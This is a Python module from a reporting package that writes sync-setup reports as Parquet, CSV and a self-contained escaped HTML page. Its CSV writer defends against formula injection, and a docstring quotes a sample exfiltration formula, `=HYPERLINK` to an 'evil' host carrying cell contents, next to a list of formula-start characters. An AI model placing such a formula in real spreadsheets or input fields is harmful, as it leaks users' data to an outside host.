"""Report files: every report saved as Parquet or CSV, and one self-contained HTML page.

This is the only module that writes report files. It writes them atomically (a temporary
name, then :func:`os.replace`) and computes nothing a report function does not: the numbers
come from :mod:`chift_frames.reports`, this module only lays them out. The dataset itself is
read and written by :mod:`chift_frames.store` alone.

The HTML page needs no server and no network: its CSS is inline and its charts are PNG images
drawn by :mod:`chift_frames.charts` (matplotlib on the Agg canvas, thread-safe, leaving no figure
behind) and embedded as ``data:`` URIs. Every piece of data on the page is HTML-escaped.
"""

from __future__ import annotations

import base64
import html
import json
import os
import uuid
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any, Literal

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

from ._progress import progress_bar
from .engine import open_source
from .errors import StoreError
from .frames import Frames
from .reports import REPORTS, USES_ONE_APIS
from .reports._query import IDS, arrow_results
from .schema import TABLES
from .store import display_root, snapshot_manifest
from .store.completeness import completeness

if TYPE_CHECKING:
    pass
from .charts import _DPI, CHARTS, _is_na, to_png

__all__ = [
    "CHARTS",
    "FORMATS",
    "compute_report_tables",
    "compute_reports",
    "display_order",
    "escape_formulas",
    "render_html",
    "save_html",
    "save_reports",
    "to_png",
    "write_csv",
]

Format = Literal["parquet", "csv"]
FORMATS: tuple[Format, ...] = ("parquet", "csv")

_ID_LIST = pa.list_(pa.string())

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""How a text that a spreadsheet runs as a formula begins (OWASP's list for CSV injection)."""


def compute_reports(
    frames: Frames | str | os.PathLike[str],
    *,
    snapshot: str = "latest",
    one_apis: Mapping[int, str] | None = None,
    progress: bool | None = None,
) -> dict[str, pd.DataFrame]:
    """Run every report of :data:`~chift_frames.reports.REPORTS` on ``frames``.

    The reports share one DuckDB connection; each one's result alone becomes pandas.

    Parameters
    ----------
    frames : Frames or str or path
        A snapshot, as given by :func:`chift_frames.load` or :func:`chift_frames.flatten`,
        or a dataset folder, read by DuckDB without loading it.
    snapshot : str, default "latest"
        When ``frames`` is a dataset folder: the snapshot to report on.
    one_apis : mapping of int to str, optional
        The API of each ``one_api`` number, for the reports that use the monitoring states
        (:data:`~chift_frames.reports.USES_ONE_APIS`).
    progress : bool, optional
        Show a progress bar (a widget in Jupyter); by default in a notebook and on an
        interactive terminal.

    Returns
    -------
    dict of str to pandas.DataFrame
        Each report by its name, in the order of ``REPORTS``.
    """
    return dict(_run_reports(frames, snapshot, one_apis, progress))


def _run_reports(
    frames: Frames | str | os.PathLike[str],
    snapshot: str,
    one_apis: Mapping[int, str] | None,
    progress: bool | None,
) -> Iterator[tuple[str, pd.DataFrame]]:
    """Run every report on one connection; yield each one's name and DataFrame in order."""
    with (
        open_source(frames, snapshot) as con,
        progress_bar(len(REPORTS), progress, "computing reports", " reports") as bar,
    ):
        for name, report in REPORTS.items():
            bar.set_postfix_str(name, refresh=False)
            yield name, report(con, one_apis=one_apis) if name in USES_ONE_APIS else report(con)
            bar.update()


def compute_report_tables(
    frames: Frames | str | os.PathLike[str],
    *,
    snapshot: str = "latest",
    one_apis: Mapping[int, str] | None = None,
    progress: bool | None = None,
) -> dict[str, pa.Table]:
    """Run every report as :func:`compute_reports` does; return each as its Parquet file's table.

    The tables are those :func:`save_reports` writes from the DataFrames (the same types,
    values and pandas metadata: a plain ``pandas.read_parquet`` gives the report's dtypes),
    made from DuckDB's answers without a round trip through pandas. What ``chift-frames
    report`` writes, when it draws no HTML page.
    """
    out = {}
    with arrow_results() as sink:
        for name, frame in _run_reports(frames, snapshot, one_apis, progress):
            if not sink:  # run by Spark: its DataFrame holds its rows
                out[name] = _to_arrow(frame)
            elif sink[-1][0] is frame:  # what run_report returned, as it returned it
                out[name] = _file_table(*sink[-1])
            else:
                raise RuntimeError(f"report {name} changed the DataFrame run_report gave it")
            sink.clear()
    return out


def _file_table(empty: pd.DataFrame, table: pa.Table, columns: Mapping[str, Any]) -> pa.Table:
    """Return a report's answer as ``_to_arrow(to_frame(table, columns))`` would, without pandas.

    Only the schema (with its pandas metadata) is made from a DataFrame: ``empty``, the
    report's without rows (``to_frame(table.slice(0, 0), columns)``, as ``run_report`` gives
    it); the columns are cast to it, a null list of ids is an empty one and a NaN is a null,
    as in the DataFrame (whose floats are pandas' nullable ``Float64``).
    """
    schema = _to_arrow(empty).schema
    arrays = []
    for field in schema:
        column = table.column(field.name)
        if columns[field.name] == IDS:
            column = pc.coalesce(column, pa.scalar([], column.type))
        elif pa.types.is_floating(column.type):
            column = pc.if_else(pc.is_nan(column), pa.scalar(None, column.type), column)
        arrays.append(column.cast(field.type))
    return pa.Table.from_arrays(arrays, schema=schema)


def _row_counts(frames: Frames | str | os.PathLike[str], snapshot: str) -> dict[str, int]:
    """Rows per table: of the frames, or as the dataset's manifest records them."""
    if isinstance(frames, Mapping):
        return {name: len(df) for name, df in frames.items()}
    rows = snapshot_manifest(frames, snapshot)["rows"]
    return {
        name: int(rows.get(name, 0)) for name, table in TABLES.items() if table.loaded_by_default
    }


# -- report files --------------------------------------------------------------------------------


def save_reports(
    frames: Frames | str | os.PathLike[str],
    out_dir: str | os.PathLike[str],
    format: Format = "parquet",
    *,
    reports: Mapping[str, pd.DataFrame | pa.Table] | None = None,
    snapshot: str = "latest",
) -> list[Path]:
    """Write every report of a snapshot to ``out_dir``, one file per report.

    Each file is named after its report (``onboarding_funnel.parquet``) and replaces any file
    of that name atomically: readers see the old file or the new one, never half of one.

    Parameters
    ----------
    frames : Frames or str or path
        A snapshot, as given by :func:`chift_frames.load`, or a dataset folder.
    out_dir : str or path
        The folder to write to; created when missing.
    format : {"parquet", "csv"}, default "parquet"
        Parquet keeps every dtype, and writes the lists of ids of a report (such as
        ``outlier_consumer_ids``) as ``list<string>``. CSV writes those lists as JSON text
        (``["c1", "c2"]``), nulls as empty fields, and text that a spreadsheet would run
        as a formula (``=``, ``+``, ``-``, ``@``, tab or carriage return first) with a
        leading ``'``; see :func:`write_csv`.
    reports : mapping of str to DataFrame or pyarrow.Table, optional
        The reports already computed by :func:`compute_reports` on ``frames``, so that a
        caller who also renders them does not run them twice; or, for Parquet, the tables
        :func:`compute_report_tables` gives, written as they are.
    snapshot : str, default "latest"
        When ``frames`` is a dataset folder: the snapshot to report on.

    Returns
    -------
    list of Path
        The files written, in the order of :data:`~chift_frames.reports.REPORTS`.

    Raises
    ------
    ValueError
        If ``format`` is neither ``"parquet"`` nor ``"csv"``, or is ``"csv"`` with reports
        given as Arrow tables.
    StoreError
        If a file cannot be written.

    Examples
    --------
    >>> import tempfile
    >>> from chift_frames import flatten
    >>> frames = flatten([("c1", {"syncid": "s1", "sync_name": "POS", "status": "active",
    ...                           "link_createdon": "2026-01-05T08:00:00Z"})])
    >>> with tempfile.TemporaryDirectory() as out:
    ...     paths = save_reports(frames, out, format="csv")
    ...     print(paths[0].name, pd.read_csv(paths[0]).linked_count.tolist())
    onboarding_funnel.csv [1]
    """
    if format not in FORMATS:
        raise ValueError(f"format must be one of {FORMATS}, not {format!r}")
    computed = compute_reports(frames, snapshot=snapshot) if reports is None else reports
    folder = Path(out_dir)
    paths = []
    for name in REPORTS:
        path = folder / f"{name}.{format}"
        df = computed[name]
        if format == "parquet":
            table = df if isinstance(df, pa.Table) else _to_arrow(df)
            with _atomic(path, "wb") as fh:
                pq.write_table(table, fh, compression="zstd")
        elif isinstance(df, pa.Table):
            raise ValueError(f"report {name} is an Arrow table: CSV is written from DataFrames")
        else:
            with _atomic(path, "w") as fh:
                write_csv(_to_csv_frame(df), fh)
        paths.append(path)
    return paths


@contextmanager
def _atomic(path: Path, mode: Literal["w", "wb"]) -> Iterator[IO[Any]]:
    """Open a temporary file beside ``path``; on success, rename it to ``path``."""
    tmp = path.with_name(f".{path.name}.{uuid.uuid4().hex}.tmp")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        encoding = None if "b" in mode else "utf-8"
        newline = None if "b" in mode else ""
        with open(tmp, mode, encoding=encoding, newline=newline) as fh:
            yield fh
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(tmp, path)
    except OSError as exc:
        raise StoreError(f"cannot write {path}: {exc}") from exc
    finally:
        tmp.unlink(missing_ok=True)


def _is_id_list(column: pd.Series) -> bool:
    """Whether an object column holds lists of ids: the reports' only object columns do."""
    return column.dtype == object and all(isinstance(v, list | tuple) for v in column)


def _to_arrow(df: pd.DataFrame) -> pa.Table:
    """Convert a report to arrow, typing its lists of ids as ``list<string>`` even when empty."""
    schema = pa.Schema.from_pandas(df, preserve_index=False)
    for name in df.columns:
        if _is_id_list(df[name]):
            i = schema.get_field_index(name)
            schema = schema.set(i, pa.field(name, _ID_LIST))
    return pa.Table.from_pandas(df, schema=schema, preserve_index=False)


def _to_csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with its lists of ids as JSON text, the rest untouched."""
    lists = {
        name: df[name].map(lambda ids: json.dumps(list(ids), ensure_ascii=False))
        for name in df.columns
        if _is_id_list(df[name]) and len(df)
    }
    return df.assign(**lists) if lists else df


def write_csv(df: pd.DataFrame, out: IO[str]) -> None:
    """Write ``df`` to text stream ``out`` as a CSV that a spreadsheet opens safely.

    Every CSV of chift_frames is written here. Text that a spreadsheet would run as a
    formula gets a leading ``'`` (see :func:`escape_formulas`). Rows end in CRLF, as RFC
    4180 says, so that a cell holding a line break, even a lone carriage return, is quoted
    whatever the Python version: unquoted, a spreadsheet would start a new row there, and
    the rest of the cell would be a cell of its own, formula and all. A stream opened on a
    file takes ``newline=""``. The index is not written.
    """
    escape_formulas(df).to_csv(out, index=False, lineterminator="\r\n")


def _escape_text(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def escape_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Return ``df`` with a ``'`` before each text that a spreadsheet would run as a formula.

    A text cell (or column name) that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
    carriage return, as in :data:`FORMULA_STARTS`, gets a leading ``'``, so that a
    spreadsheet that opens the CSV shows it rather than runs it: the names and values of a
    snapshot come from Chift's users, and ``=HYPERLINK("http://evil/?x="&A1)`` would send
    the sheet's cells away. Numbers stay numbers (``-5`` in a numeric column is written as
    ``-5``); only text is touched. Every CSV that chift_frames writes goes through this.

    Examples
    --------
    >>> df = pd.DataFrame({"name": ["=1+1", "POS", "-x"], "delta": [-5, 0, 2]})
    >>> escape_formulas(df).to_dict("list")
    {'name': ["'=1+1", 'POS', "'-x"], 'delta': [-5, 0, 2]}
    """
    out = df.copy()
    for i in range(df.shape[1]):
        column = df.iloc[:, i]
        if isinstance(column.dtype, pd.StringDtype):
            starts = column.str.startswith(FORMULA_STARTS).fillna(False).astype(bool)
            if starts.any():
                out.isetitem(i, column.mask(starts, "'" + column).array)
        elif column.dtype == object or isinstance(column.dtype, pd.CategoricalDtype):
            out.isetitem(i, column.map(_escape_text).array)
    out.columns = [_escape_text(name) for name in df.columns]
    return out


# -- the HTML page -------------------------------------------------------------------------------

_CSS = """
:root { color-scheme: light; --ink: #1d2530; --muted: #5d6b7a; --line: #dde3ea;
  --band: #f5f7fa; --accent: #1f4e79; }
* { box-sizing: border-box; }
body { margin: 0; font: 15px/1.5 system-ui, -apple-system, "Segoe UI", Roboto,
  "Helvetica Neue", Arial, sans-serif; color: var(--ink); background: #fff; }
main { max-width: 1120px; margin: 0 auto; padding: 24px 28px 64px; }
header { border-bottom: 3px solid var(--accent); padding-bottom: 16px; margin-bottom: 8px; }
h1 { font-size: 28px; margin: 0 0 4px; }
h2 { font-size: 21px; margin: 0 0 2px; }
h2 code { font-size: 13px; color: var(--muted); font-weight: normal; margin-left: 8px; }
code { font-family: ui-monospace, SFMono-Regular, Menlo, Consolas, monospace; }
.meta { color: var(--muted); margin: 0 0 12px; }
.overview { display: flex; gap: 40px; flex-wrap: wrap; align-items: flex-start; }
nav ol { margin: 0; padding-left: 22px; columns: 2; column-gap: 32px; }
nav a { color: var(--accent); text-decoration: none; }
nav a:hover { text-decoration: underline; }
section { padding: 28px 0 12px; border-bottom: 1px solid var(--line); }
.question { font-size: 17px; font-style: italic; color: var(--muted); margin: 0 0 14px; }
figure { margin: 0 0 14px; }
figure img { display: block; max-width: 100%; height: auto; }
.rows { color: var(--muted); font-size: 13px; margin: 0 0 6px; }
.scroll { overflow-x: auto; max-height: 560px; overflow-y: auto;
  border: 1px solid var(--line); border-radius: 4px; }
table { border-collapse: collapse; font-size: 13px; font-variant-numeric: tabular-nums; }
th, td { padding: 4px 10px; border-bottom: 1px solid var(--line); text-align: left;
  vertical-align: top; white-space: nowrap; }
th { background: var(--band); position: sticky; top: 0; }
tbody tr:nth-child(even) td { background: #fafbfc; }
table.counts td:last-child, table.counts th:last-child { text-align: right; }
.empty { color: var(--muted); }
.warning { background: #fff4e5; border-left: 4px solid #e07b39; padding: 10px 14px;
  margin: 0 0 16px; }
"""


def render_html(
    frames: Frames | str | os.PathLike[str],
    *,
    snapshot: str = "latest",
    snapshot_id: str | None = None,
    title: str = "Chift sync setups",
    max_rows: int = 50,
    reports: Mapping[str, pd.DataFrame] | None = None,
) -> str:
    """Return one self-contained HTML page presenting every report of a snapshot.

    The page opens in a browser from disk: no server, no network, no JavaScript. A header
    gives the snapshot id and the rows of each table; then each report of
    :data:`~chift_frames.reports.REPORTS` has a section with the question it answers (the
    first line of its docstring), a chart when :data:`CHARTS` draws one, and its first
    ``max_rows`` rows. Every value is HTML-escaped.

    Parameters
    ----------
    frames : Frames or str or path
        A snapshot, as given by :func:`chift_frames.load`, or a dataset folder.
    snapshot : str, default "latest"
        When ``frames`` is a dataset folder: the snapshot to present.
    snapshot_id : str, optional
        The id shown in the header.
    title : str, default "Chift sync setups"
        The page title.
    max_rows : int, default 50
        Rows shown of each report; the section says how many it has in all.
    reports : mapping of str to DataFrame, optional
        The reports already computed by :func:`compute_reports` on ``frames``.

    Returns
    -------
    str
        The HTML document.
    """
    computed = compute_reports(frames, snapshot=snapshot) if reports is None else reports
    parts = [
        "<!DOCTYPE html>",
        '<html lang="en">',
        "<head>",
        '<meta charset="utf-8">',
        '<meta name="viewport" content="width=device-width, initial-scale=1">',
        f"<title>{_esc(title)}{_esc(f' · {snapshot_id}') if snapshot_id else ''}</title>",
        f"<style>{_CSS}</style>",
        "</head>",
        "<body>",
        "<main>",
        _header(_row_counts(frames, snapshot), title, snapshot_id),
    ]
    banner = _completeness_note(frames, snapshot)
    if banner:
        parts.insert(parts.index("<main>") + 1, banner)
    parts += [_section(name, computed[name], max_rows) for name in REPORTS]
    parts += ["</main>", "</body>", "</html>", ""]
    return "\n".join(parts)


def save_html(
    frames: Frames | str | os.PathLike[str],
    path: str | os.PathLike[str],
    *,
    snapshot: str = "latest",
    snapshot_id: str | None = None,
    title: str = "Chift sync setups",
    max_rows: int = 50,
    reports: Mapping[str, pd.DataFrame] | None = None,
) -> Path:
    """Write the page of :func:`render_html` to ``path``, atomically.

    Parameters
    ----------
    frames : Frames or str or path
        A snapshot, as given by :func:`chift_frames.load`, or a dataset folder.
    path : str or path
        The HTML file; its folder is created when missing.
    snapshot, snapshot_id, title, max_rows, reports
        As for :func:`render_html`.

    Returns
    -------
    Path
        The file written.

    Raises
    ------
    StoreError
        If the file cannot be written.
    """
    page = render_html(
        frames,
        snapshot=snapshot,
        snapshot_id=snapshot_id,
        title=title,
        max_rows=max_rows,
        reports=reports,
    )
    target = Path(path)
    with _atomic(target, "w") as fh:
        fh.write(page)
    return target


def _esc(value: object) -> str:
    return html.escape(str(value), quote=True)


def _header(row_counts: Mapping[str, int], title: str, snapshot_id: str | None) -> str:
    counts = pd.DataFrame(
        {"table": list(row_counts), "rows": [f"{n:,}" for n in row_counts.values()]}
    )
    links = "".join(
        f'<li><a href="#{_esc(name)}">{_esc(_heading(name))}</a></li>' for name in REPORTS
    )
    snapshot = f"Snapshot <code>{_esc(snapshot_id)}</code>" if snapshot_id else "A snapshot"
    pairs = row_counts.get("consumer_syncs", 0)
    return (
        "<header>"
        f"<h1>{_esc(title)}</h1>"
        f'<p class="meta">{snapshot} · {pairs:,} consumer-sync setups · '
        f"{len(REPORTS)} reports</p>"
        '<div class="overview">'
        f"<div><h3>Rows per table</h3>{_table(counts, classes='counts')}</div>"
        f"<nav><h3>Reports</h3><ol>{links}</ol></nav>"
        "</div>"
        "</header>"
    )


def _completeness_note(frames: Frames | str | os.PathLike[str], snapshot: str) -> str | None:
    """Return a warning for a partial or filtered snapshot, from its manifest, else None.

    The facts are those of :func:`~chift_frames.store.completeness.completeness`, as every
    command gives them.
    """
    if isinstance(frames, Mapping):
        return None  # in-memory frames carry no manifest
    c = completeness(snapshot_manifest(frames, snapshot))
    if c.is_whole:
        return None
    root = display_root(frames).rstrip("/")
    if c.is_partial:
        ok = c.pairs_ok or 0
        detail = (
            f"{ok:,} of {c.expected_text} consumer-sync pairs were fetched"
            f"{f'; {_esc(c.failed)}' if c.failed else ''}. "
            "Every report below counts only what was fetched. Finish it with "
            f"<code>{_esc(c.resume_command(root))}</code>."
        )
    else:
        detail = (
            f"it holds only the {c.pairs_ok or 0:,} consumer-sync pairs the filter chose, not "
            "the whole account. Every report below counts only those."
        )
    return (
        f'<p class="warning" role="alert"><strong>This snapshot is {_esc(c.state)}</strong>: '
        f"{detail}</p>"
    )


def _heading(name: str) -> str:
    return name.replace("_", " ").capitalize()


def _question(name: str) -> str:
    doc = REPORTS[name].__doc__ or ""
    return doc.strip().splitlines()[0] if doc.strip() else ""


def _section(name: str, df: pd.DataFrame, max_rows: int) -> str:
    parts = [
        f'<section id="{_esc(name)}">',
        f"<h2>{_esc(_heading(name))}<code>{_esc(name)}</code></h2>",
        f'<p class="question">{_esc(_question(name))}</p>',
    ]
    draw = CHARTS.get(name)
    chart = draw(df) if draw else None
    if chart is not None:
        figure, alt = chart
        png = base64.b64encode(to_png(figure)).decode("ascii")
        width, height = (round(v) for v in figure.get_size_inches() * _DPI)
        parts.append(
            f'<figure><img src="data:image/png;base64,{png}" alt="{_esc(alt)}" '
            f'width="{width}" height="{height}"></figure>'
        )
    shown = min(len(df), max_rows)
    if not len(df):
        parts.append('<p class="rows empty">No rows.</p>')
    elif shown < len(df):
        parts.append(f'<p class="rows">Showing {shown:,} of {len(df):,} rows.</p>')
    elif len(df) == 1:
        parts.append('<p class="rows">1 row.</p>')
    else:
        parts.append(f'<p class="rows">All {len(df):,} rows.</p>')
    parts += [f'<div class="scroll">{_table(_displayed(df.head(max_rows)))}</div>', "</section>"]
    return "\n".join(parts)


def _table(df: pd.DataFrame, classes: str = "report") -> str:
    """Return the HTML table of ``df``, every cell escaped."""
    return df.to_html(
        index=False, escape=True, na_rep="", border=0, classes=classes, justify="left"
    )


_FIRST_COLUMNS = (
    "consumer_name",
    "sync_name",
    "flow_name",
    "state",
    "chift_state",
    "status",
    "status_details",
)
_UUID_COLUMNS = frozenset(
    {"consumer_id", "sync_id", "flow_id", "connection_id", "execution_id", "trigger_id"}
)


def display_order(columns: list[str]) -> list[str]:
    """Return the order a page shows columns in: names and status first, UUIDs last.

    The names a reader scans for (consumer, sync, flow) and the state come first, the other
    columns keep their order, and the Chift UUIDs (``consumer_id``, ``sync_id``, ``flow_id``,
    lists of consumer ids) go to the end, where they are there to copy, not to read. Ids that
    are values, such as a mapping's ``source_id``, stay where they are.

    Examples
    --------
    >>> display_order(["consumer_id", "consumer_name", "sync_id", "sync_name", "status", "n"])
    ['consumer_name', 'sync_name', 'status', 'n', 'consumer_id', 'sync_id']
    """
    first = [c for c in _FIRST_COLUMNS if c in columns]
    last = [c for c in columns if c in _UUID_COLUMNS or c.endswith("consumer_ids")]
    middle = [c for c in columns if c not in first and c not in last]
    return first + middle + last


def _displayed(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` as text for the page: names first, UUIDs last, shares in percent, ids cut short."""
    out = {}
    for name in display_order([str(c) for c in df.columns]):
        column = df[name]
        if _is_id_list(column):
            out[name] = column.map(_ids_text)
        elif name.endswith("_share"):
            out[name] = column.map(lambda v: "" if pd.isna(v) else f"{v:.1%}")
        elif pd.api.types.is_float_dtype(column.dtype):
            out[name] = column.map(_float_text)
        else:
            out[name] = column.map(lambda v: "" if _is_na(v) else str(v))
    return pd.DataFrame(out, columns=list(out))


def _float_text(value: float) -> str:
    if _is_na(value):
        return ""
    return f"{value:,.2f}" if value == 0 or abs(value) >= 0.01 else f"{value:.2g}"


def _ids_text(ids: list[str] | tuple[str, ...], shown: int = 3) -> str:
    text = ", ".join(str(i) for i in ids[:shown])
    return f"{text} … (+{len(ids) - shown:,})" if len(ids) > shown else text
